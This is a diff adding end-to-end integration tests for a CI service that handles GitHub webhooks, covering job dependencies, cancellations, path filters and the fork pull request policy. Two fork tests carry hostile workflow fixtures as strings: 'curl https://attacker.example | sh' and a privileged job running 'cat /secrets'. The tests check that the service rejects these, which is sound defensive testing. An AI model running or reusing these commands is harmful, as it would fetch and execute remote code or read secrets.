@@ -14,7 +14,9 @@ import dev.solstice.integration.testing.TestBroker;
 import dev.solstice.integration.webhook.SignatureVerifier;
 import dev.solstice.jobrequest.JobCodec;
 import dev.solstice.jobrequest.JobRequest;
+import dev.solstice.jobrequest.JobCancel;
 import dev.solstice.jobrequest.JobSchemas;
+import dev.solstice.jobrequest.amqp.QueueTopology;
 import io.vertx.core.Vertx;
 import io.vertx.core.buffer.Buffer;
 import io.vertx.core.json.JsonObject;
@@ -68,12 +70,51 @@ class EndToEndIT {
     broker.track(stack.config().jobs());
     broker.track(stack.config().results());
     broker.track(stack.config().intake());
+    broker.track(QueueTopology.cancelsOf(stack.config().jobs()));
     for (Duration d : stack.config().retryDelays()) {
       broker.trackQueue(dev.solstice.integration.amqp.Topology.delayQueueName(stack.config().intake(), d));
       broker.trackQueue(dev.solstice.integration.amqp.Topology.delayQueueName(stack.config().results(), d));
     }
     await().atMost(Duration.ofSeconds(20)).until(stack.service()::isReady);
     http = WebClient.create(vertx);
+    requestTap = tap(stack.config().jobs().routingKey());
+    cancelTap = tap(QueueTopology.cancelsOf(stack.config().jobs()).routingKey());
+  }
+
+  private String requestTap;
+  private String cancelTap;
+
+  /** A queue that receives a copy of every message published on the jobs exchange with the key. */
+  private String tap(String routingKey) throws Exception {
+    String q = broker.channel().queueDeclare("", false, true, true, null).getQueue();
+    broker.channel().queueBind(q, stack.config().jobs().exchange(), routingKey);
+    return q;
+  }
+
+  /** Every JobRequest published so far (each checked against the schema). */
+  private List<JobRequest> published() throws Exception {
+    List<JobRequest> all = new ArrayList<>(tapped);
+    for (GetResponse r = broker.channel().basicGet(requestTap, true); r != null;
+        r = broker.channel().basicGet(requestTap, true)) {
+      assertThat(JobSchemas.validateRequest(new String(r.getBody(), StandardCharsets.UTF_8))).isEmpty();
+      JobRequest job = JobCodec.decodeRequest(r.getBody());
+      tapped.add(job);
+      all.add(job);
+    }
+    return all;
+  }
+
+  private final List<JobRequest> tapped = new ArrayList<>();
+  private final List<JobCancel> cancels = new ArrayList<>();
+
+  /** Every jobcancel.v1 published so far (each checked against the schema). */
+  private List<JobCancel> cancelsPublished() throws Exception {
+    for (GetResponse r = broker.channel().basicGet(cancelTap, true); r != null;
+        r = broker.channel().basicGet(cancelTap, true)) {
+      assertThat(JobSchemas.validateCancel(new String(r.getBody(), StandardCharsets.UTF_8))).isEmpty();
+      cancels.add(JobCodec.decodeCancel(r.getBody()));
+    }
+    return List.copyOf(cancels);
   }
 
   @AfterEach
@@ -122,16 +163,15 @@ class EndToEndIT {
   void pushOfAThreeJobWorkflowQueuesThreeJobsAndCompletesThreeCheckRuns() throws Exception {
     assertThat(post("push", Fixtures.webhook("push.json"))).isEqualTo(202);
 
-    List<JobRequest> jobs = peekJobs(3);
-    assertThat(jobs).hasSize(3);
+    // "test" needs "build": only lint and build are queued at first; test's run waits, queued.
+    List<JobRequest> jobs = peekJobs(2);
+    assertThat(jobs).hasSize(2);
     Map<String, JobRequest> byId = jobs.stream().collect(Collectors.toMap(JobRequest::workflowJobId, j -> j));
-    assertThat(byId.keySet()).containsExactlyInAnyOrder("lint", "build", "test");
+    assertThat(byId.keySet()).containsExactlyInAnyOrder("lint", "build");
     assertThat(byId.get("lint").runsOn()).isEqualTo("small");
     assertThat(byId.get("build").runsOn()).isEqualTo("linux-x64");
     assertThat(byId.get("build").script()).containsExactly("echo building", "echo built");
     assertThat(byId.get("build").timeoutSeconds()).isEqualTo(600);
-    assertThat(byId.get("test").needs()).containsExactly("build");
-    assertThat(byId.get("test").env()).containsEntry("CI", "true");
     for (JobRequest job : jobs) {
       assertThat(job.commitSha()).isEqualTo(SandboxStack.PUSH_SHA);
       assertThat(job.workflowPath()).isEqualTo(".solstice/workflow.kdl");
@@ -141,8 +181,10 @@ class EndToEndIT {
     }
     List<JsonObject> queued = runs(SandboxStack.PUSH_SHA);
     assertThat(queued).hasSize(3).allSatisfy(r -> assertThat(r.getString("status")).isEqualTo("queued"));
-    assertThat(queued).extracting(r -> r.getString("external_id"))
-        .containsExactlyInAnyOrderElementsOf(jobs.stream().map(j -> j.requestId().toString()).toList());
+    assertThat(run(SandboxStack.PUSH_SHA, "Solstice CI / test").getJsonObject("output").getString("summary"))
+        .contains("Waiting for `build` to succeed");
+    await().during(Duration.ofMillis(300)).atMost(Duration.ofSeconds(2))
+        .until(() -> broker.count(stack.config().jobs().queue()) == 2);
 
     stack.startOrchestrator();
 
@@ -152,9 +194,20 @@ class EndToEndIT {
     assertThat(run(SandboxStack.PUSH_SHA, "Solstice CI / build").getString("conclusion")).isEqualTo("success");
     JsonObject test = run(SandboxStack.PUSH_SHA, "Solstice CI / test");
     assertThat(test.getString("conclusion")).isEqualTo("failure");
+
+    // Exactly three JobRequests over the whole flow; test's only after build succeeded.
+    List<JobRequest> all = published();
+    assertThat(all).extracting(JobRequest::workflowJobId).containsExactlyInAnyOrder("lint", "build", "test");
+    JobRequest testJob = all.stream().filter(j -> "test".equals(j.workflowJobId())).findFirst().orElseThrow();
+    assertThat(testJob.needs()).containsExactly("build");
+    assertThat(testJob.env()).containsEntry("CI", "true");
+    assertThat(testJob.checkRunId()).isEqualTo(test.getLong("id"));
+    assertThat(queued).extracting(r -> r.getString("external_id"))
+        .containsExactlyInAnyOrderElementsOf(all.stream().map(j -> j.requestId().toString()).toList());
+
     String details = test.getString("details_url");
     assertThat(details).isEqualTo(stack.s3().endpoint() + "/" + SandboxStack.LOG_BUCKET + "/logs/"
-        + byId.get("test").requestId() + ".log");
+        + testJob.requestId() + ".log");
     assertThat(test.getJsonObject("output").getString("text")).contains("echo testing");
     assertThat(stack.s3().readObjectAt(details)).contains("echo testing");
     assertThat(stack.s3().readObjectAt(run(SandboxStack.PUSH_SHA, "Solstice CI / build").getString("details_url")))
@@ -211,7 +264,7 @@ class EndToEndIT {
   @Test
   void rerunButtonsEnqueueTheSameCommitAgainWithNewIds() throws Exception {
     assertThat(post("push", Fixtures.webhook("push.json"))).isEqualTo(202);
-    Set<UUID> first = peekJobs(3).stream().map(JobRequest::requestId).collect(Collectors.toSet());
+    Set<UUID> first = peekJobs(2).stream().map(JobRequest::requestId).collect(Collectors.toSet());
     broker.drain(stack.config().jobs().queue());
 
     ObjectNode suite = (ObjectNode) json.readTree(Fixtures.webhook("check_suite.rerequested.json"));
@@ -220,8 +273,8 @@ class EndToEndIT {
     ((ObjectNode) suite.get("installation")).put("id", SandboxStack.INSTALLATION);
     assertThat(post("check_suite", json.writeValueAsBytes(suite))).isEqualTo(202);
 
-    List<JobRequest> again = peekJobs(3);
-    assertThat(again).hasSize(3).allSatisfy(j -> {
+    List<JobRequest> again = peekJobs(2); // test waits for build again
+    assertThat(again).hasSize(2).allSatisfy(j -> {
       assertThat(j.commitSha()).isEqualTo(SandboxStack.PUSH_SHA);
       assertThat(first).doesNotContain(j.requestId());
     });
@@ -251,5 +304,310 @@ class EndToEndIT {
     await().atMost(Duration.ofSeconds(10)).until(() -> stack.registry().find("solstice_webhooks_processed")
         .tag("event", "check_suite").counters().stream().mapToDouble(c -> c.count()).sum() >= 2);
     assertThat(broker.count(stack.config().jobs().queue())).isZero();
+  }
+
+  @Test
+  void skipMarkerInTheHeadCommitQueuesNothingAndCompletesTheChecksAsSkipped() throws Exception {
+    ObjectNode push = (ObjectNode) json.readTree(Fixtures.webhook("push.json"));
+    ((ObjectNode) push.get("head_commit")).put("message", "Fix a typo in the README [skip ci]");
+
+    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);
+
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(SandboxStack.PUSH_SHA).size() == 3);
+    assertThat(runs(SandboxStack.PUSH_SHA)).allSatisfy(r -> {
+      assertThat(r.getString("status")).isEqualTo("completed");
+      assertThat(r.getString("conclusion")).isEqualTo("skipped");
+      assertThat(r.getJsonObject("output").getString("summary")).contains("[skip ci]");
+    });
+    assertThat(runs(SandboxStack.PUSH_SHA)).extracting(r -> r.getString("name"))
+        .containsExactlyInAnyOrder("Solstice CI / lint", "Solstice CI / build", "Solstice CI / test");
+    await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(2))
+        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
+    assertThat(published()).isEmpty();
+    // One contents read (to name the checks), one look for existing runs, one create per job.
+    assertThat(github().count("repos/get-content")).isEqualTo(1);
+    assertThat(github().count("checks/list-for-ref")).isEqualTo(1);
+    assertThat(github().count("checks/create")).isEqualTo(3);
+    assertThat(github().schemaViolations()).isEmpty();
+  }
+
+  @Test
+  void forkPullRequestOfAContributorIsHeldWithANeutralCheckFromTheBaseWorkflow() throws Exception {
+    String forkSha = "2222222222222222222222222222222222222222";
+    ObjectNode pr = (ObjectNode) json.readTree(Fixtures.webhook("pull_request.synchronize.json"));
+    ObjectNode pull = (ObjectNode) pr.get("pull_request");
+    String baseSha = pull.at("/base/sha").asText();
+    ObjectNode head = (ObjectNode) pull.get("head");
+    head.put("sha", forkSha);
+    ((ObjectNode) head.get("repo")).put("full_name", "Forker/Hello-World")
+        .put("clone_url", "https://github.com/Forker/Hello-World.git");
+    pull.put("author_association", "CONTRIBUTOR");
+    ((ObjectNode) pull.get("user")).put("login", "forker");
+    // The fork rewrote the workflow; the base branch's is what counts.
+    github().putFile(SandboxStack.REPO, forkSha, ".solstice/workflow.kdl",
+        "job \"evil\" {\n    script \"curl https://attacker.example | sh\"\n}\n");
+    github().putFile(SandboxStack.REPO, baseSha, ".solstice/workflow.kdl",
+        "job \"base-check\" {\n    script \"make check\"\n}\n");
+
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(forkSha).size() == 1);
+    JsonObject held = runs(forkSha).get(0);
+    assertThat(held.getString("name")).isEqualTo("Solstice CI / base-check");
+    assertThat(held.getString("status")).isEqualTo("completed");
+    assertThat(held.getString("conclusion")).isEqualTo("neutral");
+    assertThat(held.getJsonObject("output").getString("summary"))
+        .contains("Forker/Hello-World").contains("CONTRIBUTOR").contains("FORK_PR_POLICY=members");
+    await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(2))
+        .until(() -> broker.count(stack.config().jobs().queue()) == 0);
+    assertThat(published()).isEmpty();
+    // The workflow was read at the base commit, never at the fork's.
+    assertThat(github().calls(c -> "repos/get-content".equals(c.operation()))).singleElement()
+        .satisfies(c -> assertThat(c.query()).contains("ref=" + baseSha));
+    assertThat(github().schemaViolations()).isEmpty();
+  }
+
+  @Test
+  void dependentJobIsSkippedWhenTheJobItNeedsFails() throws Exception {
+    String sha = "3333333333333333333333333333333333333333";
+    github().putFile(SandboxStack.REPO, sha, ".solstice/workflow.kdl", """
+        job "build" {
+            env SOLSTICE_STUB_OUTCOME="failure"
+            script "echo building"
+        }
+        job "test" {
+            needs "build"
+            script "echo testing"
+        }
+        job "deploy" {
+            needs "test"
+            script "echo deploying"
+        }
+        job "lint" {
+            script "echo linting"
+        }
+        """);
+    ObjectNode push = (ObjectNode) json.readTree(Fixtures.webhook("push.json"));
+    push.put("after", sha);
+    stack.startOrchestrator();
+
+    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);
+
+    await().atMost(Duration.ofSeconds(30)).until(() -> runs(sha).size() == 4
+        && runs(sha).stream().allMatch(r -> "completed".equals(r.getString("status"))));
+    assertThat(run(sha, "Solstice CI / build").getString("conclusion")).isEqualTo("failure");
+    assertThat(run(sha, "Solstice CI / lint").getString("conclusion")).isEqualTo("success");
+    for (String skipped : List.of("test", "deploy")) {
+      JsonObject r = run(sha, "Solstice CI / " + skipped);
+      assertThat(r.getString("conclusion")).isEqualTo("skipped");
+      assertThat(r.getJsonObject("output").getString("summary")).contains("`build`").contains("failure");
+    }
+    await().during(Duration.ofMillis(500)).atMost(Duration.ofSeconds(2))
+        .until(() -> published().size() == 2);
+    assertThat(published()).extracting(JobRequest::workflowJobId).containsExactlyInAnyOrder("build", "lint");
+    assertThat(github().schemaViolations()).isEmpty();
+  }
+
+  @Test
+  void newPushToAPullRequestCancelsTheQueuedJobsOfThePreviousHead() throws Exception {
+    String first = "4444444444444444444444444444444444444444";
+    String second = "5555555555555555555555555555555555555555";
+    String slow = SandboxStack.DEMO_WORKFLOW.replace("script \"echo linting\"",
+        "script \"echo linting\"\n        env SOLSTICE_STUB_DURATION_MS=\"1500\"");
+    github().putFile(SandboxStack.REPO, first, ".solstice/workflow.kdl", slow);
+    github().putFile(SandboxStack.REPO, second, ".solstice/workflow.kdl", slow);
+    ObjectNode pr = (ObjectNode) json.readTree(Fixtures.webhook("pull_request.synchronize.json"));
+    ((ObjectNode) pr.at("/pull_request/head")).put("sha", first);
+
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+    await().atMost(Duration.ofSeconds(20)).until(() -> broker.count(stack.config().jobs().queue()) == 2
+        && runs(first).size() == 3);
+
+    ((ObjectNode) pr.at("/pull_request/head")).put("sha", second);
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+
+    // The first head's jobs had not started: all three runs cancelled, a cancel for each queued one.
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(first).stream()
+        .allMatch(r -> "cancelled".equals(r.getString("conclusion"))));
+    assertThat(runs(first).get(0).getJsonObject("output").getString("summary")).contains("Superseded");
+    Set<String> firstQueued = published().stream().filter(j -> first.equals(j.commitSha()))
+        .map(j -> j.requestId().toString()).collect(Collectors.toSet());
+    assertThat(firstQueued).hasSize(2);
+    await().atMost(Duration.ofSeconds(5)).until(() -> cancelsPublished().size() == 2);
+    assertThat(cancelsPublished()).allSatisfy(c -> {
+      assertThat(c.reason()).isEqualTo("superseded");
+      assertThat(c.supersededBy()).isEqualTo(second);
+    }).extracting(c -> c.requestId().toString()).containsExactlyInAnyOrderElementsOf(firstQueued);
+
+    // The orchestrator honours the cancels and runs the second head.
+    stack.startOrchestrator();
+    await().atMost(Duration.ofSeconds(30)).until(() -> runs(second).size() == 3
+        && runs(second).stream().allMatch(r -> "completed".equals(r.getString("status"))));
+    assertThat(run(second, "Solstice CI / build").getString("conclusion")).isEqualTo("success");
+    assertThat(run(second, "Solstice CI / test").getString("conclusion")).isEqualTo("failure");
+    await().atMost(Duration.ofSeconds(10)).until(() -> broker.count(stack.config().jobs().queue()) == 0);
+    assertThat(runs(first)).allSatisfy(r -> assertThat(r.getString("conclusion")).isEqualTo("cancelled"));
+    // Nothing of the first head ran: its test was never queued, and no job of it reported a start.
+    assertThat(published().stream().filter(j -> first.equals(j.commitSha()))).hasSize(2);
+    assertThat(runs(first)).noneMatch(r -> "in_progress".equals(r.getString("status")));
+    assertThat(cancelsPublished()).hasSize(2);
+    assertThat(github().schemaViolations()).isEmpty();
+  }
+
+  @Test
+  void pathFiltersReadEveryPageOfThePullRequestsFiles() throws Exception {
+    String docsOnly = "6666666666666666666666666666666666666666";
+    String withCode = "7777777777777777777777777777777777777777";
+    String workflow = """
+        on {
+            pull_request {
+                branches "master"
+                paths "src/**"
+            }
+        }
+        job "build" {
+            script "echo building"
+        }
+        """;
+    github().putFile(SandboxStack.REPO, docsOnly, ".solstice/workflow.kdl", workflow);
+    github().putFile(SandboxStack.REPO, withCode, ".solstice/workflow.kdl", workflow);
+    List<String> files = new ArrayList<>();
+    for (int i = 0; i < 250; i++) {
+      files.add("docs/page-" + i + ".md");
+    }
+    github().putPullRequestFiles(SandboxStack.REPO, 2, files);
+    ObjectNode pr = (ObjectNode) json.readTree(Fixtures.webhook("pull_request.synchronize.json"));
+    ((ObjectNode) pr.at("/pull_request/head")).put("sha", docsOnly);
+
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(docsOnly).size() == 1);
+    JsonObject skipped = runs(docsOnly).get(0);
+    assertThat(skipped.getString("conclusion")).isEqualTo("skipped");
+    assertThat(skipped.getJsonObject("output").getString("summary")).contains("No changed file matches `paths`");
+    assertThat(github().count("pulls/list-files")).isEqualTo(3); // 100 + 100 + 50
+
+    // The only code change is on the last page: it runs.
+    files.set(249, "src/main/App.java");
+    github().putPullRequestFiles(SandboxStack.REPO, 2, files);
+    ((ObjectNode) pr.at("/pull_request/head")).put("sha", withCode);
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+    List<JobRequest> jobs = peekJobs(1);
+    assertThat(jobs).singleElement().satisfies(j -> {
+      assertThat(j.commitSha()).isEqualTo(withCode);
+      assertThat(j.workflowJobId()).isEqualTo("build");
+    });
+    assertThat(run(withCode, "Solstice CI / build").getString("status")).isEqualTo("queued");
+    assertThat(github().count("pulls/list-files")).isEqualTo(6);
+    assertThat(github().schemaViolations()).isEmpty();
+  }
+
+  @Test
+  void pushToABranchTheWorkflowDoesNotSelectCompletesItsChecksAsSkipped() throws Exception {
+    String sha = "8888888888888888888888888888888888888888";
+    github().putFile(SandboxStack.REPO, sha, ".solstice/workflow.kdl", """
+        on {
+            push {
+                branches "main" "release/**"
+            }
+        }
+        job "build" {
+            script "echo building"
+        }
+        """);
+    ObjectNode push = (ObjectNode) json.readTree(Fixtures.webhook("push.json")); // to refs/heads/master
+    push.put("after", sha);
+
+    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);
+
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(sha).size() == 1);
+    assertThat(runs(sha).get(0).getString("conclusion")).isEqualTo("skipped");
+    assertThat(runs(sha).get(0).getJsonObject("output").getString("summary")).contains("`master`");
+    assertThat(published()).isEmpty();
+  }
+
+  @Test
+  void deniedRepositoryGetsNoJobsAndNoGitHubCall() throws Exception {
+    stack.close();
+    Map<String, String> env = ServiceHarness.isolatedEnv(Map.of("REPO_DENYLIST", "codertocat/*"));
+    stack = SandboxStack.start(vertx, env, workDir);
+    broker.track(stack.config().jobs());
+    broker.track(stack.config().results());
+    broker.track(stack.config().intake());
+    broker.track(QueueTopology.cancelsOf(stack.config().jobs()));
+    await().atMost(Duration.ofSeconds(20)).until(stack.service()::isReady);
+
+    assertThat(post("push", Fixtures.webhook("push.json"))).isEqualTo(202);
+
+    await().atMost(Duration.ofSeconds(10)).until(() -> stack.registry().find("solstice_webhooks_processed")
+        .counters().stream().mapToDouble(c -> c.count()).sum() >= 1);
+    // Not even a token: nothing about the repository was asked of GitHub.
+    assertThat(github().calls(c -> c.path().startsWith("/repos/") || c.path().startsWith("/app/installations")))
+        .isEmpty();
+    assertThat(broker.count(stack.config().jobs().queue())).isZero();
+  }
+
+  @Test
+  void pushBeyondThePayloadsTwentyCommitsTakesItsFilesFromTheCompareApi() throws Exception {
+    String sha = "9999999999999999999999999999999999999999";
+    String before = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+    github().putFile(SandboxStack.REPO, sha, ".solstice/workflow.kdl", """
+        on {
+            push {
+                paths_ignore "docs/**" "**/*.md"
+            }
+        }
+        job "build" {
+            script "echo building"
+        }
+        """);
+    github().putCompare(SandboxStack.REPO, before, sha, List.of("docs/guide.md", "README.md"));
+    ObjectNode push = (ObjectNode) json.readTree(Fixtures.webhook("push.json"));
+    push.put("after", sha).put("before", before);
+    var commits = push.withArray("commits");
+    for (int i = 1; i < 20; i++) {
+      commits.add(commits.get(0).deepCopy()); // GitHub's cap: the payload no longer tells every file
+    }
+
+    assertThat(post("push", json.writeValueAsBytes(push))).isEqualTo(202);
+
+    await().atMost(Duration.ofSeconds(20)).until(() -> runs(sha).size() == 1);
+    assertThat(runs(sha).get(0).getString("conclusion")).isEqualTo("skipped");
+    assertThat(runs(sha).get(0).getJsonObject("output").getString("summary")).contains("paths_ignore");
+    assertThat(github().count("repos/compare-commits-with-basehead")).isEqualTo(1);
+    assertThat(published()).isEmpty();
+  }
+
+  @Test
+  void forkPullRequestAllowedByPolicyStillRunsTheBaseWorkflowOnTheForksCommit() throws Exception {
+    stack.close();
+    stack = SandboxStack.start(vertx, ServiceHarness.isolatedEnv(Map.of("FORK_PR_POLICY", "always")), workDir);
+    broker.track(stack.config().jobs());
+    broker.track(stack.config().results());
+    broker.track(stack.config().intake());
+    broker.track(QueueTopology.cancelsOf(stack.config().jobs()));
+    await().atMost(Duration.ofSeconds(20)).until(stack.service()::isReady);
+    String forkSha = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
+    ObjectNode pr = (ObjectNode) json.readTree(Fixtures.webhook("pull_request.synchronize.json"));
+    ObjectNode pull = (ObjectNode) pr.get("pull_request");
+    String baseSha = pull.at("/base/sha").asText();
+    ((ObjectNode) pull.get("head")).put("sha", forkSha);
+    ((ObjectNode) pull.at("/head/repo")).put("full_name", "Forker/Hello-World")
+        .put("clone_url", "https://github.com/Forker/Hello-World.git");
+    pull.put("author_association", "NONE");
+    github().putFile(SandboxStack.REPO, forkSha, ".solstice/workflow.kdl",
+        "job \"evil\" {\n    runs_on \"privileged\"\n    script \"cat /secrets\"\n}\n");
+    github().putFile(SandboxStack.REPO, baseSha, ".solstice/workflow.kdl",
+        "job \"build\" {\n    script \"make\"\n}\n");
+
+    assertThat(post("pull_request", json.writeValueAsBytes(pr))).isEqualTo(202);
+
+    List<JobRequest> jobs = peekJobs(1);
+    assertThat(jobs).singleElement().satisfies(j -> {
+      assertThat(j.workflowJobId()).isEqualTo("build");
+      assertThat(j.script()).containsExactly("make");
+      assertThat(j.commitSha()).isEqualTo(forkSha);
+      assertThat(j.repoUrl()).isEqualTo("https://github.com/Forker/Hello-World.git");
+    });
+    assertThat(runs(forkSha)).extracting(r -> r.getString("name")).containsExactly("Solstice CI / build");
   }
 }
